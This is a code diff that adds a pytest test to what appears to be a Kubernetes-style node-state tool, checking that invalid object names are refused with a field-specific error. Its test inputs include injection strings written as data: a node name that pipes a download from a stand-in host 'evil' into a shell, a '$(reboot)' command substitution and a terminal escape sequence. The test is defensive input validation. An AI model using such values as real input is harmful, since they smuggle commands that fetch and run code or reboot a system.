@@ -274,3 +274,22 @@ def test_facts_are_labelled_with_the_node_that_made_them(node: str, label: str |
     made = facts_document(facts, node)
     assert made["metadata"].get("labels", {}).get("mooring.dev/node") == label
     assert made["metadata"]["name"] == digest_of(facts) == digest_of(facts_of(over_the_wire(made)))
+
+
+@pytest.mark.parametrize(
+    ("node", "namespace", "pod", "place"),
+    [
+        ("n; curl evil|sh #", "a", "b", "NodeState: metadata.name: 'n; curl evil|sh #'"),
+        ("n", "\x1b[2J", "b", "NodeState n: spec.pods[0].namespace: "),
+        ("n", "a", "$(reboot)", "NodeState n: spec.pods[0].name: '$(reboot)'"),
+    ],
+)
+def test_a_state_with_a_name_that_no_object_can_have_is_refused(
+    node: str, namespace: str, pod: str, place: str
+) -> None:
+    document = state_document(NodeState("node", "0" * 64, pods=(PodKey(namespace, pod),)))
+    document["metadata"]["name"] = node
+    with pytest.raises(InputError) as caught:
+        state_of(document)
+    assert str(caught.value).startswith(place)
+    assert "is not a valid name" in str(caught.value)
